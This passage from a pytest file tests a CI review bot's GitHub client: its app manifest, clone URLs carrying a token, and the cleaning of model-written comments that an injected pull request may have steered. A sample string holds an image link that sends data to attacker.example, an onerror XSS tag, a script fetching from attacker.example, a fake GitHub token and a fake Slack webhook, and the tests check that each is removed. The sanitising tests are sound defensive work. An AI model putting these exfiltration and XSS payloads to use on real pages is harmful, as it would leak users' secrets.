        "pull_request_review_comment",
        "pull_request_review_thread",  # resolved threads count as acceptance
        "workflow_run",
    ]
    assert manifest["hook_attributes"] == {
        "url": "https://cibot.example.com/webhook",
        "active": True,
    }
    assert manifest["public"] is False


def test_clone_url_carries_the_token_for_github_and_enterprise() -> None:
    """The URL a worker fetches the PR head from: github.com, or an Enterprise host."""
    from workers.github import GitHubClient

    dotcom = GitHubClient.from_token(token="ghs_clone_token", base_url="https://api.github.com")
    ghe = GitHubClient.from_token(token="ghs_clone_token", base_url="https://ghe.example/api/v3")
    try:
        assert (
            dotcom.clone_url("acme/app")
            == "https://x-access-token:ghs_clone_token@github.com/acme/app.git"
        )
        assert (
            ghe.clone_url("acme/app")
            == "https://x-access-token:ghs_clone_token@ghe.example/acme/app.git"
        )
        with pytest.raises(InputError):
            dotcom.clone_url("../../etc")
    finally:
        dotcom.close()
        ghe.close()


INJECTED = (
    "Looks fine. ![x](http://attacker.example/r.png?d=secret) see "
    "[the docs](https://attacker.example/p) and <img src=x onerror=alert(1)> "
    "<script>fetch('//attacker.example')</script> or the "
    "[PR](https://github.com/acme/shop/pull/7). Token ghp_"
    + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    + " and https://hooks.slack.com/services/T0000AAAA/B0000BBBB/"
    + "XyZ123abcDEF456ghiJKL789"
    + "\n\n```html\n<b>kept in code</b>\n```"
)


def _no_foreign_markup(body: str) -> None:
    """Assert a posted body carries no image, foreign link or live HTML outside code."""
    prose = body.split("```html")[0]
    assert "![" not in prose and "://attacker.example" not in prose
    assert "<img" not in prose and "<script" not in prose  # escaped: shown as text
    assert "https://github.com/acme/shop/pull/7" in prose  # allowed host, kept
    assert "ghp_a1B2" not in body and "XyZ123abc" not in body  # a model may echo secrets
    assert "<b>kept in code</b>" in body  # code blocks are left as written


def test_every_post_is_stripped_of_images_foreign_links_and_html(
    fake: FakeGitHub, client: GitHubClient
) -> None:
    """Model text may be steered by an injected PR: what reaches GitHub is cleaned."""
    sha = "a1" * 20
    fake.add_pull(REPO, 12, diff=DIFF, head_sha=sha)
    client.upsert_comment(REPO, 12, marker=MARKER, body=INJECTED)
    (comment,) = fake.comments(REPO, 12)
    _no_foreign_markup(comment["body"])
    assert comment["body"].endswith(MARKER)
    comments = [ReviewComment(path="src/auth/session.py", line=2, body=INJECTED)]
    client.create_review(REPO, 12, commit_sha=sha, body=INJECTED, comments=comments)
    (review,) = fake.reviews(REPO, 12)
    _no_foreign_markup(review["body"])
    _no_foreign_markup(review["comments"][0]["body"])
    run_id = client.upsert_check_run(
        REPO,
        head_sha=sha,
        name="cibot",
        status="completed",
        conclusion="neutral",
        title="t",
        summary=INJECTED,
        text=INJECTED,
    )
    (run,) = [r for r in fake.check_runs(REPO) if r["id"] == run_id]
    _no_foreign_markup(run["output"]["summary"])
    _no_foreign_markup(run["output"]["text"])
    # Five posts (comment, review body, review comment, check summary and text), each
    # with two images, one foreign link, two HTML pieces and two secrets, counted by kind.
    assert dict(client.removed) == {
        "images": 10,
        "links": 5,
        "html": 10,
        "secret_github_token": 5,
        "secret_slack_token": 5,
    }
